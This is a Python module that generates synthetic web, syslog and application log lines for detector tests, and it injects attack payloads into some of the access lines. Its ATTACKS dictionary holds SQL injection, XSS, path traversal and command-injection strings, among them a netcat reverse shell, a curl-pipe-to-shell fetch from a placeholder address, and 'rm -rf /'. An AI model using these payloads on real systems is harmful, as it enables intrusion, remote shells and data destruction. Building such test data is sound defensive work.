"""Test data the tests make themselves: access lines of a small shop, attacks, syslog lines.

Deterministic for a given seed. Nothing here is copied from a dataset.
"""

from __future__ import annotations

import datetime
import random
from urllib.parse import quote

WORDS = ["shoes", "red", "wine", "coffee", "mug", "lamp", "chair", "desk", "green", "tea",
         "book", "pen", "bag", "hat", "blue", "cable", "phone", "case", "socks", "jacket"]
AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
]
STATIC = ["/static/css/site.css", "/static/js/app.js", "/favicon.ico", "/robots.txt",
          "/images/logo.png", "/images/banner.jpg"]


def shop_request(rng: random.Random) -> tuple[str, str]:
    """(method, url) of one normal request to the shop."""
    item, page, word = rng.randint(1, 5000), rng.randint(1, 40), rng.choice(WORDS)
    choice = rng.random()
    if choice < 0.25:
        return "GET", rng.choice(STATIC)
    if choice < 0.45:
        return "GET", f"/products/{item}"
    if choice < 0.55:
        return "GET", f"/products/{item}/reviews?page={page}&sort={rng.choice(['new', 'top'])}"
    if choice < 0.70:
        return "GET", f"/search?q={quote(word + ' ' + rng.choice(WORDS))}&page={page}"
    if choice < 0.80:
        return "GET", f"/cart/add?item={item}&qty={rng.randint(1, 9)}"
    if choice < 0.88:
        return "GET", f"/api/v1/items/{item}?fields=name,price&lang={rng.choice(['en', 'de', 'fr'])}"
    if choice < 0.94:
        return "POST", "/login"
    return "GET", rng.choice(["/", "/index.html", "/about", "/contact"])


def access_line(rng: random.Random, method: str, url: str) -> str:
    ip = f"{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
    day, hour, minute = rng.randint(1, 28), rng.randint(0, 23), rng.randint(0, 59)
    status = rng.choices(["200", "304", "404", "302"], weights=[90, 5, 3, 2])[0]
    size = rng.randint(200, 90000) if status == "200" else rng.randint(0, 400)
    referer = rng.choice(["-", "https://shop.example/", f"https://shop.example/products/{rng.randint(1, 5000)}"])
    return (f'{ip} - - [{day:02d}/Mar/2026:{hour:02d}:{minute:02d}:{rng.randint(0, 59):02d} +0000] '
            f'"{method} {url} HTTP/1.1" {status} {size} "{referer}" "{rng.choice(AGENTS)}"')


def shop_lines(count: int, seed: int = 0) -> list[str]:
    rng = random.Random(seed)
    return [access_line(rng, *shop_request(rng)) for _ in range(count)]


# Attack payloads written for these tests, by family.
ATTACKS = {
    "sql_injection": [
        "' OR '1'='1", "1' OR 1=1--", "1; DROP TABLE users--", "1 UNION SELECT username, password FROM users",
        "' UNION ALL SELECT NULL,NULL,version()--", "admin'--", "1' AND SLEEP(5)--", "1) OR (1=1",
        "'; EXEC xp_cmdshell('dir')--", "1' AND extractvalue(1,concat(0x7e,database()))--",
    ],
    "xss": [
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>",
        "<svg/onload=alert('x')>", "javascript:alert(1)", "<iframe src=javascript:alert(1)>",
        "'><script src=//evil.example/x.js></script>", "<body onload=alert(1)>",
    ],
    "path_traversal": [
        "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "....//....//etc/passwd",
        "..\\..\\..\\windows\\win.ini", "/etc/passwd%00.png", "%252e%252e%252fetc%252fpasswd",
    ],
    "command_injection": [
        "; cat /etc/passwd", "| nc -e /bin/sh 203.0.113.9 4444", "$(whoami)", "`id`",
        "&& curl http://203.0.113.9/x.sh | sh", "; rm -rf / #", "|| wget -O- http://203.0.113.9/a",
    ],
}


def inject(line: str, payload: str, rng: random.Random) -> str:
    """Put an attack payload into the request of an access line, as an attacker would."""
    start = line.index('"') + 1
    end = line.index(" HTTP/", start)
    method, url = line[start:end].split(" ", 1)
    encoded = quote(payload, safe="") if rng.random() < 0.7 else payload.replace(" ", "%20")
    path, _, query = url.partition("?")
    if query and rng.random() < 0.6:  # replace an existing parameter's value
        params = query.split("&")
        index = rng.randrange(len(params))
        params[index] = params[index].split("=", 1)[0] + "=" + encoded
        url = path + "?" + "&".join(params)
    else:
        name = rng.choice(["id", "q", "file", "page", "cmd"])
        url = f"{path}{'&' if query else '?'}{name}={encoded}" if query or rng.random() < 0.8 \
            else f"{path.rstrip('/')}/{encoded}"
    url = url.replace("\\", "\\\\").replace('"', '\\"')  # as Apache escapes the request line
    return f"{line[:start]}{method} {url}{line[end:]}"


def attack_lines(normal: list[str], count: int, seed: int = 1) -> list[tuple[str, str]]:
    """(family, line) pairs: normal lines carrying one payload each."""
    rng = random.Random(seed)
    families = sorted(ATTACKS)
    result = []
    for i in range(count):
        family = families[i % len(families)]
        result.append((family, inject(rng.choice(normal), rng.choice(ATTACKS[family]), rng)))
    return result


def syslog_lines(count: int, seed: int = 0) -> list[str]:
    rng = random.Random(seed)
    templates = [
        ("sshd", "Accepted publickey for {user} from {ip} port {port} ssh2"),
        ("sshd", "Disconnected from user {user} {ip} port {port}"),
        ("CRON", "({user}) CMD (run-parts /etc/cron.hourly)"),
        ("kernel", "eth0: link up, {port} Mbps, full duplex"),
        ("systemd", "Started Session {port} of user {user}."),
    ]
    lines = []
    for _ in range(count):
        app, template = rng.choice(templates)
        message = template.format(user=rng.choice(["alice", "bob", "deploy"]), port=rng.randint(1000, 65000),
                                  ip=f"10.0.{rng.randint(0, 255)}.{rng.randint(1, 254)}")
        lines.append(f"Mar {rng.randint(1, 28):2d} {rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:"
                     f"{rng.randint(0, 59):02d} host{rng.randint(1, 3)} {app}[{rng.randint(100, 9999)}]: {message}")
    return lines


# Requests typical of the personal website whose public log trained models/apache-access.onnx
# (a blog, talks and project pages): its everyday paths, for "lines in the training style".
BLOG_REQUESTS = [
    "/favicon.ico", "/style2.css", "/reset.css", "/images/jordan-80.png", "/images/web/2009/banner.png",
    "/blog/tags/puppet?flav=rss20", "/projects/xdotool/", "/?flav=rss20", "/", "/robots.txt",
    "/projects/xdotool/xdotool.xhtml", "/articles/dynamic-dns-with-dhcp/", "/?flav=atom",
    "/images/googledotcom.png", "/blog/geekery/ssl-latency.html", "/articles/ssh-security/",
    "/presentations/logstash-puppetconf-2012/images/nagios-sms5.png",
]
BLOG_AGENTS = [
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/32.0.1700.107 Safari/537.36",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:27.0) Gecko/20100101 Firefox/27.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "UniversalFeedParser/4.2-pre-314-svn +http://feedparser.org/",
]


def blog_lines(count: int, seed: int = 0) -> list[str]:
    rng = random.Random(seed)
    lines = []
    for _ in range(count):
        ip = f"{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
        url = rng.choice(BLOG_REQUESTS)
        lines.append(f'{ip} - - [{rng.randint(17, 20)}/May/2015:{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:'
                     f'{rng.randint(0, 59):02d} +0000] "GET {url} HTTP/1.1" 200 {rng.randint(300, 200000)} '
                     f'"http://semicomplete.com/" "{rng.choice(BLOG_AGENTS)}"')
    return lines


def session_lines(sessions: int, seed: int = 0, broken: float = 0.0) -> tuple[list[str], set[str]]:
    """Interleaved lines of file-transfer sessions keyed by ``xfer-<n>``; a ``broken`` fraction
    skips the checksum step and ends in an error. Returns (lines, ids of broken sessions)."""
    rng = random.Random(seed)
    pending = []
    broken_ids = set()
    for number in range(sessions):
        key = f"xfer-{seed}-{number}"
        steps = [f"open {key} from 10.0.{rng.randint(0, 255)}.{rng.randint(1, 254)}"]
        steps += [f"write {key} chunk {i} size {rng.randint(100, 9000)}" for i in range(rng.randint(1, 4))]
        if rng.random() < broken:
            broken_ids.add(key)
            steps += [f"error {key} connection reset after {rng.randint(1, 90)} s"]
        else:
            steps += [f"checksum {key} ok", f"close {key} after {rng.randint(1, 90)} s"]
        pending.append(steps)
    lines = []
    while pending:  # interleave the sessions, keeping each one's order
        steps = pending[rng.randrange(len(pending))]
        lines.append(steps.pop(0))
        pending = [p for p in pending if p]
    return lines, broken_ids


def timed_shop_lines(seconds: int, per_second: float, start: float = 1_772_323_200.0, seed: int = 0,
                     clients: int = 300) -> list[str]:
    """The shop's traffic over time: ``per_second`` requests a second on average (Poisson), each from
    one of ``clients`` returning visitors, with timestamps from ``start`` (Unix seconds)."""
    rng = random.Random(seed)
    addresses = [f"10.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}" for _ in range(clients)]
    lines = []
    moment = start
    while moment < start + seconds:
        moment += rng.expovariate(per_second)
        line = access_line(rng, *shop_request(rng))
        lines.append(stamped(rng.choice(addresses) + line[line.index(" "):], moment))
    return lines


def stamped(line: str, moment: float) -> str:
    """An access line with its timestamp set to ``moment`` (Unix seconds)."""
    stamp = datetime.datetime.fromtimestamp(moment, datetime.timezone.utc).strftime("%d/%b/%Y:%H:%M:%S +0000")
    return f"{line[:line.index('[') + 1]}{stamp}{line[line.index(']'):]}"


APP_EVENTS = [("INFO", "com.shop.Orders", "order {n} placed in {ms} ms"),
              ("INFO", "com.shop.Cart", "cart {n} updated with {k} items"),
              ("DEBUG", "com.shop.Cache", "cache hit for product {n}"),
              ("WARN", "com.shop.Payments", "payment {n} retried after {ms} ms")]


def app_line(moment: float, level: str, logger: str, message: str) -> str:
    """An application line as log4j's default layout writes it: wall-clock time (no zone), level,
    thread, logger."""
    stamp = datetime.datetime.fromtimestamp(moment, datetime.timezone.utc).strftime("%Y-%m-%d %H:%M:%S")
    return f"{stamp},{int(moment * 1000) % 1000:03d} {level:5} [worker-{int(moment) % 4}] {logger}: {message}"


def timed_app_lines(seconds: int, per_second: float, start: float, seed: int = 0) -> list[str]:
    """An application's log over time: ``per_second`` lines a second on average, a few warnings, an
    error now and then; times written in UTC."""
    rng = random.Random(seed)
    lines, moment = [], start
    while moment < start + seconds:
        moment += rng.expovariate(per_second)
        level, logger, text = (("ERROR", "com.shop.Payments", "payment {n} declined by the gateway")
                               if rng.random() < 0.01 else rng.choice(APP_EVENTS))
        lines.append(app_line(moment, level, logger, text.format(n=rng.randint(1, 99999), ms=rng.randint(1, 900),
                                                                   k=rng.randint(1, 9))))
    return lines


# An office application's day on its local wall clock (share of its busiest hour): staff come in
# from 07:00, lunch, leave from 17:00.
DAY_HOURS = (0, 7, 8, 12, 13, 14, 17, 18, 24)
DAY_SHAPE = (0.05, 0.05, 1.0, 1.0, 0.7, 1.0, 1.0, 0.1, 0.05)


def local_clock_rate(moment: float, zone: datetime.tzinfo, peak_per_hour: float) -> float:
    """Requests per hour at Unix time ``moment`` of a site whose visitors follow ``zone``'s clock."""
    local = datetime.datetime.fromtimestamp(moment, zone)
    hour = local.hour + local.minute / 60
    right = next(i for i, h in enumerate(DAY_HOURS) if h > hour)
    h0, h1, s0, s1 = DAY_HOURS[right - 1], DAY_HOURS[right], DAY_SHAPE[right - 1], DAY_SHAPE[right]
    return peak_per_hour * (s0 + (s1 - s0) * (hour - h0) / (h1 - h0))


def local_clock_lines(start: float, seconds: int, zone: datetime.tzinfo, peak_per_hour: float,
                      seed: int = 0) -> list[str]:
    """Access lines of such a site (Poisson each minute), stamped with the zone's offset as Apache writes them."""
    rng = random.Random(seed)
    lines = []
    for minute in range(int(start), int(start + seconds), 60):
        moment = float(minute)
        while True:
            moment += rng.expovariate(local_clock_rate(minute, zone, peak_per_hour) / 3600)
            if moment >= minute + 60:
                break
            line = access_line(rng, *shop_request(rng))
            stamp = datetime.datetime.fromtimestamp(moment, zone).strftime("%d/%b/%Y:%H:%M:%S %z")
            lines.append(f"{line[:line.index('[') + 1]}{stamp}{line[line.index(']'):]}")
    return lines
